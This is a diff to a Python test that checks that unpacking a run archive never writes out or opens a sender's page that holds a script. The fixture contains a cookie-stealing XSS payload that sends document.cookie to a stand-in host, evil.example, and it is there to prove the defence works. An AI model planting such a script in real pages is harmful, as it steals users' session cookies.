@@ -123,6 +123,8 @@ def test_the_page_of_the_sender_is_never_opened(tmp_path: Path) -> None:
     """Its script would run where the operator reads results."""
     evil = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
     write_pack(tmp_path / "sent.run.tar.zst", {INDEX: ROW, PAGE: evil})
+    unpack(tmp_path / "sent.run.tar.zst", tmp_path / "bare")
+    assert not (tmp_path / "bare" / PAGE).exists()
     code, shown = command(tmp_path, "unpack", "sent.run.tar.zst")
     assert code == 0, shown
     assert b"evil.example" not in (tmp_path / "sent" / PAGE).read_bytes()
